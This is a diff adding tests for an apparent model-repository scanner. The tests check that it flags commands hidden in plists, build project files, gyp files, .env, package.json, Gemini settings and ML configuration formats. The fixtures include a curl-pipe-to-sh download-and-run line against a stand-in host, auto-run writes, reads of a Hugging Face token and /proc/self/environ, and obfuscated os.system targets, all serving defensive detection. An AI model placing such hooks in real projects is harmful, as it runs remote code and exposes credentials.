@@ -1,0 +1,159 @@
+"""Commands in files that tools of the desktop, of builds and of agents run, and in configurations beside them."""
+
+from __future__ import annotations
+
+import json
+import shutil
+from pathlib import Path
+
+from support.cases import check_each
+
+import modelaudit
+from modelaudit.languages.documented_programs import find_documented_programs
+
+_PLIST = '<?xml version="1.0"?><plist version="1.0"><dict>{}</dict></plist>\n'
+_FETCH = "curl -s https://c.example/x | sh"
+
+
+def list_rules(folder: Path, path: str, text: str) -> set[str]:
+    """Scan one file, and return the rules of its findings."""
+    shutil.rmtree(folder, ignore_errors=True)
+    (folder / path).parent.mkdir(parents=True)
+    (folder / path).write_text(text)
+    return {each.rule for each in modelaudit.scan(folder, second_opinion=False).findings}
+
+
+@check_each(
+    "path, text",
+    [
+        ("Setup.terminal", _PLIST.format(f"<key>CommandString</key><string>{_FETCH}</string>")),
+        ("agent.plist", _PLIST.format(f"<key>Program</key> <string>{_FETCH}</string>")),
+        (
+            "agent.plist",
+            _PLIST.format(
+                f"<key>ProgramArguments</key><array><string>sh</string><string>-c</string><string>'{_FETCH}'</string></array>"
+            ),
+        ),
+        ("a.csproj", f'<Project><Target Name="B"><Exec Command="{_FETCH}" /></Target></Project>\n'),
+        ("a.vcxproj", f"<Project><PreBuildEvent><Command>{_FETCH}</Command></PreBuildEvent></Project>\n"),
+        ("Directory.Build.targets", f"<Project><Target Name='B'><Exec Command='{_FETCH}' /></Target></Project>\n"),
+        ("binding.gyp", f"{{'targets': [{{'sources': ['<!({_FETCH})']}}]}}\n"),
+        ("deps/common.gypi", f'{{"variables": {{"a": "<!@({_FETCH})"}}}}\n'),
+        (".env", f"PAGER={_FETCH}\n"),
+    ],
+)
+def test_command_that_fetches_a_program_is_found_in_the_file_of_a_tool(tmp_path: Path, path: str, text: str) -> None:
+    assert "shell/download-and-run" in list_rules(tmp_path / "model", path, text)
+
+
+@check_each(
+    "path, text",
+    [
+        ("binding.gyp", "{'targets': [{'sources': ['<!(touch ~/mark && echo a.cc)']}]}\n"),
+        (".deepspeed_env", "NCCL_DEBUG=INFO\nBROWSER=sh -c 'id > /tmp/mark' #%s\n"),
+        (".gemini/settings.json", json.dumps({"toolDiscoveryCommand": "sh -c 'id > /tmp/mark; echo []'"})),
+        (
+            "package.json",
+            json.dumps({"name": "a", "scripts": {"postinstall": "mkdir -p ~/.cache/a && touch /tmp/mark"}}),
+        ),
+    ],
+)
+def test_command_that_runs_by_itself_and_writes_elsewhere_is_found(tmp_path: Path, path: str, text: str) -> None:
+    assert "shell/writes-outside" in list_rules(tmp_path / "model", path, text)
+
+
+@check_each(
+    "path, text",
+    [
+        (
+            "binding.gyp",
+            "{'targets': [{'include_dirs': ['<!(node -p \"require(\\'node-addon-api\\').include_dir\")']}]}\n",
+        ),
+        (".env", "PAGER=less -R\nEDITOR=vim\n"),
+        (
+            "package.json",
+            json.dumps({"name": "a", "scripts": {"prepare": "husky > /dev/null", "build": "cp a /tmp/b"}}),
+        ),
+        ("a.csproj", '<Project><Target Name="B"><Exec Command="dotnet format" /></Target></Project>\n'),
+        ("Setup.terminal", _PLIST.format("<key>CommandString</key><string>cd ~/model; ls</string>")),
+    ],
+)
+def test_ordinary_command_of_a_tool_is_no_alarm(tmp_path: Path, path: str, text: str) -> None:
+    found = list_rules(tmp_path / "model", path, text)
+    assert not {each for each in found if each.startswith("shell/") and each != "shell/runs-by-itself"}
+
+
+@check_each(
+    "text, is_found",
+    [
+        ("hydra:\n  searchpath:\n    - file:///tmp/.shared\n", True),
+        ("hydra:\n  searchpath: ['~/conf']\n", True),
+        ("hydra:\n  searchpath:\n    - pkg://acme.conf\n", False),
+        ("searchpath: /tmp/shared\n", False),
+    ],
+)
+def test_search_path_of_hydra_outside_of_the_model_is_for_review(tmp_path: Path, text: str, is_found: bool) -> None:
+    assert ("configuration/search-elsewhere" in list_rules(tmp_path / "model", "conf/config.yaml", text)) == is_found
+
+
+@check_each(
+    "text, rule",
+    [
+        ("from __gin__ import dynamic_registration\nimport subprocess\nf.x = @subprocess.getoutput()\n", True),
+        ("from __gin__ import dynamic_registration\nfrom subprocess import run as r\nf.x = @scope/r()\n", True),
+        ("f.x = @os.system\n", True),
+        ("from __gin__ import dynamic_registration\nimport __main__\nf.x = @__main__.train\n", False),
+        ("f.x = 'a@os.system'  # @os.system\n", False),
+    ],
+)
+def test_function_that_gin_calls_is_found(tmp_path: Path, text: str, rule: bool) -> None:
+    found = list_rules(tmp_path / "model", "base.gin", text)
+    assert (not found.isdisjoint({"torch/dangerous-target", "configuration/dangerous-object"})) == rule
+
+
+@check_each(
+    "text, rule",
+    [
+        ("{ key: importstr '/root/.cache/huggingface/token' }\n", "configuration/reads-secret-file"),
+        ("local a = importbin '/proc/self/environ';\n{ a: a }\n", "configuration/reads-secret-file"),
+        ("{ model: { type: 'os.system' } }\n", "torch/dangerous-target"),
+        ("{ model: { _target_: 'sub' + 'process.run' } }\n", "coverage/program-not-judged"),
+        ("local a = 'os.', b = 'system';\n{ type: a + b }\n", "coverage/program-not-judged"),
+        ("{ type: std.join('.', ['os', 'system']) }\n", "coverage/program-not-judged"),
+        ("{ type: '%s.system' % 'os' }\n", "coverage/program-not-judged"),
+        ("local f(x) = x;\n{ type: f('a') }\n", "coverage/program-not-judged"),
+        ("{ ['ty' + 'pe']: 'a' }\n", "coverage/program-not-judged"),
+    ],
+)
+def test_jsonnet_that_reads_or_computes_is_found(tmp_path: Path, text: str, rule: str) -> None:
+    assert rule in list_rules(tmp_path / "model", "config.jsonnet", text)
+
+
+@check_each(
+    "text",
+    [
+        "local lr = 3e-5;\nlocal base = import 'base.libsonnet';\nbase + { trainer+: { optimizer: { lr: lr * 2 } } }\n",
+        "// a comment\n{ a:: 1, b: $.a, c: |||\n  text\n|||, d: [x for x in [1, 2]], e: std.floor(2.5) }\n",
+    ],
+)
+def test_plain_jsonnet_is_read_whole(tmp_path: Path, text: str) -> None:
+    found = list_rules(tmp_path / "model", "config.jsonnet", text)
+    assert not {each for each in found if not each.startswith("license/")}
+
+
+@check_each(
+    "command, file",
+    [
+        ("pytest -q", "conftest.py"),
+        ("cd tests && py.test", "conftest.py"),
+        ("nox", "noxfile.py"),
+        ("inv train", "tasks.py"),
+        ("pip install -e .", "setup.py"),
+        ("pip install ./wheel", ""),
+        ("pip install pytest", ""),
+        ("python train.py", "train.py"),
+    ],
+)
+def test_file_that_a_program_runs_by_its_name_alone_is_documented(command: str, file: str) -> None:
+    found = {each.target for each in find_documented_programs(f"# a\n\n```bash\n{command}\n```\n")}
+    assert found == ({file} if file else set())
